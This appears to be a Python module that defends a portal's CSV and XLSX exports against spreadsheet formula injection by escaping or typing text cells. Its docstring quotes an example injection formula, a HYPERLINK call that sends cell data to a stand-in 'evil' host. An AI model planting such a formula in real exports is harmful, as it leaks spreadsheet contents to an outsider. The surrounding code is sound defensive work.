"""The one way to write a spreadsheet or CSV cell that a user typed.

Excel and LibreOffice run a cell that starts with `=`, `+`, `-` or `@` (and, after a tab or a
carriage return, the same) as a formula: a member named `=HYPERLINK("http://evil/?"&A1,"x")`
would leak the sheet to whoever opens the export. Following the OWASP "CSV injection" rule,
such a text cell gets a leading apostrophe, which both programs show as plain text. Numbers,
dates and decimals are left as they are: only text can carry a formula.

In XLSX a text cell is stored with the string type, which neither program ever evaluates, so it
needs no apostrophe (a phone "+992 …" stays as typed); openpyxl would otherwise store any text
starting with `=` as a live formula. Imports strip the apostrophe again (`unneutralise`), so an
export read back gives the values typed.

Every CSV and XLSX the portal produces goes through `csv_writer` or `append_row`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """The value with a leading apostrophe if it is text a spreadsheet would take as a formula."""
    if isinstance(value, str):
        text = value
    elif hasattr(value, "__html__") or type(value).__name__ == "__proxy__":  # lazy translations
        text = str(value)
    else:
        return value
    if text and text.lstrip(" ")[:1] in FORMULA_PREFIXES:
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self._writer.writerow(safe_row(row))


def csv_writer(file, **kwargs) -> _SafeWriter:
    """`csv.writer(file)` whose every cell passes through `safe_cell`."""
    return _SafeWriter(csv.writer(file, **kwargs))


def _text(value: Any) -> Any:
    if isinstance(value, str) or type(value).__name__ == "__proxy__":
        return str(value)
    return value


def append_row(sheet, row: Iterable[Any]) -> None:
    """`sheet.append(row)` for openpyxl, with every text cell stored as text, never as a formula."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    values = [_text(value) for value in row]
    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
        return
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def unneutralise(value: str) -> str:
    """What the user typed, from a cell `safe_cell` wrote (for imports of our own exports)."""
    if value.startswith("'") and value[1:].lstrip(" ")[:1] in FORMULA_PREFIXES:
        return value[1:]
    return value
